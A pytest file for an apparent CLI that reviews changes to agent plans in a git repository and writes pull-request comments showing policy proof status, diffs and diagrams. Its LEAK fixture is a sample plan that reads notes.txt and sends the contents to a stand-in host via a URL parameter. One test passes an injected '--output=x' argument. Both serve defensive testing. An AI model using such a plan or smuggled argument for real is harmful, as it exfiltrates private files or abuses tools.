"""What a branch changes in plans, as the comment of a pull request: with real git, and the action's step."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from tests import forked

from callsheet.apps.cli.main import main

ROOT = Path(__file__).parents[2]
FINE = 'S1: @READ_FILE (path="notes.txt") > $a\nS2: @RESPOND ($a)\n'
LEAK = (
    'S1: @READ_FILE (path="notes.txt") > $a\nS2: @FETCH_PAGE (url="https://x.example/?d=$a") > $b\n'
    "S3: @RESPOND ($b)\n"
)


def plan_of(steps: str) -> str:
    return f"# ltp: 1\nPLAN_START\n{steps}PLAN_END\n"


def git(folder: Path, *arguments: str) -> str:
    command = ["git", "-c", "user.name=a", "-c", "user.email=a@b", *arguments]
    return subprocess.run(command, cwd=folder, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def folder(own_home: Path) -> Path:
    """A repository with changes after a commit: a plan that leaks, one that is new, one that is gone."""
    git(own_home, "init", "-q")
    (own_home / "flows").mkdir()
    (own_home / "flows" / "a.ltp").write_text(plan_of(FINE))
    (own_home / "gone.ltp").write_text(plan_of(FINE))
    (own_home / "same.ltp").write_text(plan_of(FINE))
    git(own_home, "add", ".")
    git(own_home, "commit", "-qm", "first")
    (own_home / "flows" / "a.ltp").write_text(plan_of(LEAK))
    (own_home / "new.ltp").write_text(plan_of('S1: @RESPOND ("```")\n'))
    (own_home / "notes.md").write_text("x")
    (own_home / "gone.ltp").unlink()
    git(own_home, "add", ".")
    return own_home


def run(*arguments: str) -> Any:
    return CliRunner().invoke(main, ["plan", *arguments])


def test_comment_tells_proof_differences_and_picture(folder: Path) -> None:
    done = run("review", "HEAD", "--policy", "workspace")
    assert done.exit_code == 0, done.output
    text = done.stdout
    assert text.startswith("<!-- callsheet plan review -->\n\n## Changed plans\n")
    changed, gone, new = (text.index(f"### `{name}`") for name in ("flows/a.ltp", "gone.ltp", "new.ltp"))
    assert changed < gone < new
    first = text[changed:gone]
    assert "**not proved against workspace** (before: proved against workspace)" in first
    assert "- now `POL103: " in first
    assert "```diff\n" in first
    assert "@FETCH_PAGE" in first.split("```diff")[1].split("```")[0]
    assert "```mermaid\n" in first
    assert text[gone:new].strip() == "### `gone.ltp` is deleted"
    assert "is new: 1 added" in text[new:]
    assert "````mermaid\n" in text[new:] or "```" not in text[new:].split("mermaid\n")[1].split("\n```")[0]
    assert "same.ltp" not in text
    assert "notes.md" not in text
    (folder / "job.py").write_text('async def main() -> str:\n    return "x"\n')
    (folder / "script.py").write_text("import this\n")
    marked = "@plan\nasync def {}() -> str:\n    return 'x'\n"
    (folder / "jobs.py").write_text("".join(map(marked.format, ("one", "two"))))
    git(folder, "add", ".")
    told = run("review", "HEAD").stdout
    assert set(re.findall(r"`(\w+\.py[:\w]*)`", told)) == {"job.py", "jobs.py:one", "jobs.py:two"}
    assert "PYT003" not in told
    only = run("review", "HEAD", "flows").stdout
    assert ("flows/a.ltp" in only, "new.ltp" in only) == (True, False)
    assert "proved" not in only
    git(folder, "commit", "-qm", "second")
    assert run("review", "HEAD").stdout == ""


def test_wrong_revision_is_reported(folder: Path) -> None:
    done = run("review", "nowhere")
    assert (done.exit_code, "CFG012: there is no revision nowhere here" in done.stderr) == (2, True)
    assert run("review", "--", "--output=x").exit_code == 2
    assert not (folder / "x").exists()
    (folder / ".git").rename(folder / "elsewhere")
    git(folder, "init", "-q")
    assert "this repository has no commit yet" in run("review", "HEAD").stderr
    (folder / ".git").rename(folder / "empty")
    outside = run("review", "HEAD").stderr
    assert "this folder is in no checkout of git" in outside
    assert "--no-index" not in outside


def test_diff_is_printed_as_markdown(folder: Path) -> None:
    done = run("diff", "same.ltp", "flows/a.ltp", "--format", "markdown")
    assert done.exit_code == 0, done.output
    assert done.stdout.startswith("### `flows/a.ltp`: ")
    assert "```diff\nbefore → after\n" in done.stdout
    assert run("diff", "same.ltp", "same.ltp", "--format", "json").stdout.startswith("{")
    assert run("diff", "same.ltp", "same.ltp", "--json", "--format", "markdown").exit_code == 2


GH = """#!/bin/bash
echo "$@" >> "$RUNNER_TEMP/gh.log"
if [[ "$*" == *--jq* ]]; then cat "$RUNNER_TEMP/known" 2>/dev/null || true; fi
"""


@pytest.mark.parametrize("known", ["", "41\n"])
def test_step_of_action_writes_comment_once_and_then_updates_it(folder: Path, known: str) -> None:
    """The script of the action with a `gh` that records what it is asked; GitHub is the runner's part."""
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    (step,) = (step for step in action["runs"]["steps"] if step["name"] == "Comment on the pull request")
    temp = folder / "temp"
    temp.mkdir()
    (temp / "gh").write_text(GH)
    (temp / "gh").chmod(0o755)
    (temp / "known").write_text(known)
    env = os.environ | {"PLANS": "", "POLICY": "workspace", "RUNNER_TEMP": str(temp), "NUMBER": "7"}
    env |= {"REPOSITORY": "o/r", "BASE": git(folder, "rev-parse", "HEAD")}
    env["PATH"] = os.pathsep.join([str(temp), str(forked.programs(temp / "bin")), env["PATH"]])
    line = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
    done = subprocess.run(line, cwd=folder, env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    told = (temp / "gh.log").read_text()
    way = (
        "--method PATCH repos/o/r/issues/comments/41"
        if known
        else "--method POST repos/o/r/issues/7/comments"
    )
    assert way in told
    assert "not proved against workspace" in (temp / "comment.md").read_text()
